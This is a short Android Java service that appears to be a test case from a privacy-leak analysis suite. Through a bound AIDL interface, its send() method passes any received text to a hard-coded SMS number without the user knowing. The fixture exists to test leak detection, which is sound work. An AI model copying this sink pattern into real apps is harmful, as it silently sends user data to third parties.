package cn.privlens.suite.interface_stub_and_proxy_other;

import android.app.Service;
import android.content.Intent;
import android.os.IBinder;
import android.telephony.SmsManager;

public class Remote extends Service {
    private final IReport.Stub stub = new IReport.Stub() {
        @Override
        public void send(String text) { SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null); }
        @Override
        public void note(String text) { stopSelf(text.length()); }
    };
    @Override
    public IBinder onBind(Intent intent) { return stub; }
}
